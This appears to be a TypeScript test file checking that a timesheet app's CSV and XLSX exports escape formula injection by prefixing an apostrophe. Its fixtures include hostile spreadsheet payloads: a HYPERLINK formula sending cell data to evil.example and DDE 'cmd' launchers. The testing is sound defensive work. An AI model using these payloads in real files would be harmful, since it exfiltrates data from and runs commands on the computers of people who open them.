// Exports run no formulas (src/lib/spreadsheetCell.ts): text starting with "=", "+", "-", "@", a
// tab or a carriage return gets a leading apostrophe in every CSV and XLSX the product writes;
// numbers stay numbers, and a negative number as the app writes it is left as it is. Read back:
// the timesheet's CSV and XLSX (exceljs) of a person imported under a formula's name.
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvLine, toCsv } from "../../src/crud/csv";
import { formatMoney, formatNumber, formatPercent } from "../../src/lib/format";
import { spreadsheetCell, unneutralizedCell } from "../../src/lib/spreadsheetCell";
import { csvRows } from "../../src/pages/timesheet/model/csvExport";
import { exportTable } from "../../src/pages/timesheet/model/exportTable";
import type { TimesheetPersonRow } from "../../src/pages/timesheet/model/types";
import { WORKED_DAY } from "../fixtures/timesheet";
import { xlsxBytes } from "../../src/pages/timesheet/model/xlsx";
import { importItems } from "../../src/pages/staff/model/csvImport";
import type { ResolvedField } from "../../declaration";

/** The three payloads, as people were imported. */
export const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"] as const;

describe("spreadsheetCell", () => {
  it("puts an apostrophe before the issue's three payloads", () => {
    for (const p of PAYLOADS) expect(spreadsheetCell(p)).toBe(`'${p}`);
  });

  it("neutralises every leading character OWASP lists, and only those", () => {
    for (const c of ["=", "+", "-", "@", "\t", "\r"]) expect(spreadsheetCell(`${c}1+1`)).toBe(`'${c}1+1`);
    for (const c of ["=", "+", "-", "@", "\t", "\r"]) expect(spreadsheetCell(`${c}cmd|' /C calc'!A0`)).toBe(`'${c}cmd|' /C calc'!A0`);
    // Inside the text, or after a space, nothing runs: left as it is.
    for (const s of ["Budi =1+1", " =1+1", "a-b", "x@y.test", "'quoted", "", "Sari Dewi"]) expect(spreadsheetCell(s)).toBe(s);
    // The lone "-" of a missing value has nothing after it to run.
    expect(spreadsheetCell("-")).toBe("-");
    expect(spreadsheetCell("+")).toBe("'+");
    expect(spreadsheetCell("+62 812 3456 7890")).toBe("'+62 812 3456 7890");
  });

  it("keeps numbers numbers, negative ones included", () => {
    expect(spreadsheetCell(-1500000)).toBe(-1500000);
    expect(spreadsheetCell(0)).toBe(0);
    expect(spreadsheetCell(12.5)).toBe(12.5);
    expect(spreadsheetCell(Number.NaN)).toBe("NaN");
  });

  it("leaves a negative number as the app writes it: digits, separators, a percent sign, a currency", () => {
    const written = [
      formatNumber(-1500000, "en"),
      formatNumber(-1500000.25, "id"),
      formatPercent(-12.5, "en"),
      formatPercent(-12.5, "id"),
      formatMoney(-1500000, "en"),
      formatMoney(-1500000, "id"),
      formatMoney(-99.5, "en", { code: "USD", decimals: 2 }),
    ];
    expect(written).toEqual(["-1,500,000", "-1.500.000,25", "-12.5%", "-12,5%", "-IDR\u00a01,500,000", "-Rp\u00a01.500.000", "-$99.50"]);
    for (const w of written) expect(spreadsheetCell(w)).toBe(w);
    // What looks like a number but carries anything that could run is text with its apostrophe.
    for (const s of ["-1+1", "-1,5)", "-AB1", "-1e5", "-SUM(1)", "-Rp 1|x", "--1"]) expect(spreadsheetCell(s)).toBe(`'${s}`);
  });

  it("writes null, undefined and booleans as text", () => {
    expect(spreadsheetCell(null)).toBe("");
    expect(spreadsheetCell(undefined)).toBe("");
    expect(spreadsheetCell(true)).toBe("true");
  });

  it("is taken off again when the product's own CSV is read back by the staff import", () => {
    for (const p of PAYLOADS) expect(unneutralizedCell(String(spreadsheetCell(p)))).toBe(p);
    expect(unneutralizedCell("'quoted")).toBe("'quoted");
    const fields = [{ name: "name", type: "string" }] as unknown as ResolvedField[];
    const rows = Papa.parse<string[]>(`${csvLine(["name"])}\r\n${csvLine([PAYLOADS[0]])}`).data;
    expect(
      importItems(
        rows,
        fields,
        (f) => f.name,
        (k) => k,
      ).items,
    ).toEqual([{ name: PAYLOADS[0] }]);
  });
});

describe("CSV lines", () => {
  it("quote every cell, neutralise text and keep numbers", () => {
    expect(csvLine(["=1+1", -3, "-3", 'say "hi"'])).toBe(`"'=1+1","-3","-3","say ""hi"""`);
    expect(toCsv([{ "=header": "@x" }])).toBe(`"'=header"\r\n"'@x"`);
  });
});

const t = (key: string, o?: Record<string, unknown>) => (o ? `${key}${JSON.stringify(o)}` : key);

/** A person of the timesheet per payload, each with one worked day. */
const people: TimesheetPersonRow[] = PAYLOADS.map((name, i) => ({
  user_id: i + 1,
  name,
  code: "-E1",
  nik: "3174041234560001",
  role_name: "-Worker",
  division_name: "@Civil",
  days: [{ ...WORKED_DAY, shift: { ...WORKED_DAY.shift!, name: "=Morning" }, worked_minutes: 540, overtime_minutes: 60, presences: [] }],
  totals: {
    worked_minutes: 540,
    break_minutes: 60,
    regular_minutes: 480,
    overtime_minutes: 60,
    rest_day_overtime_minutes: 0,
    days_worked: 1,
    late_days: 1,
    absent_days: 0,
    leave_days: 0,
  },
  approvals: [],
  flagged_days: 0,
  hourly_wage: null,
}));

describe("the timesheet's exports, read back", () => {
  const table = exportTable(people, t);

  it("CSV: every text cell a spreadsheet would run starts with an apostrophe, numbers stay", () => {
    const [header, ...rows] = Papa.parse<string[]>(toCsv(csvRows(table)), { skipEmptyLines: true }).data;
    const col = (k: string) => header.indexOf(`timesheet.col.${k}`);
    expect(rows).toHaveLength(6); // a day and the totals per person
    expect(rows.map((r) => r[col("name")])).toEqual(PAYLOADS.flatMap((p) => [`'${p}`, `'${p}`]));
    expect(rows[0][col("role")]).toBe("'-Worker");
    expect(rows[0][col("employee_code")]).toBe("'-E1");
    expect(rows[0][col("division")]).toBe("'@Civil");
    expect(rows[0][col("shift")]).toBe("'=Morning");
    expect(rows[0][col("late_minutes")]).toBe("12");
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("XLSX: the same text cells with their apostrophe, the minutes late a number cell", async () => {
    const { default: ExcelJS } = await import("exceljs");
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await xlsxBytes([{ name: "Timesheet", table }]));
    const sheet = book.getWorksheet("Timesheet")!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const col = (k: string) => header.indexOf(`timesheet.col.${k}`) + 1;
    const names: unknown[] = [];
    for (let n = 2; n <= sheet.rowCount; n++) {
      const row = sheet.getRow(n);
      names.push(row.getCell(col("name")).value);
      row.eachCell((cell) => {
        if (typeof cell.value === "string") expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
        // exceljs reads a formula cell as { formula }: none was written.
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      });
    }
    expect(names).toEqual(PAYLOADS.flatMap((p) => [`'${p}`, `'${p}`]));
    expect(sheet.getRow(2).getCell(col("late_minutes")).value).toBe(12);
    expect(sheet.getRow(2).getCell(col("late_minutes")).type).toBe(ExcelJS.ValueType.Number);
  });

  it("XLSX: a negative number is a number cell", async () => {
    const { default: ExcelJS } = await import("exceljs");
    const negative = { ...table, rows: [{ ...table.rows[0]!, late_minutes: -5 }] };
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await xlsxBytes([{ name: "Timesheet", table: negative }]));
    const sheet = book.getWorksheet("Timesheet")!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = sheet.getRow(2).getCell(header.indexOf("timesheet.col.late_minutes") + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.Number);
    expect(cell.value).toBe(-5);
  });
});
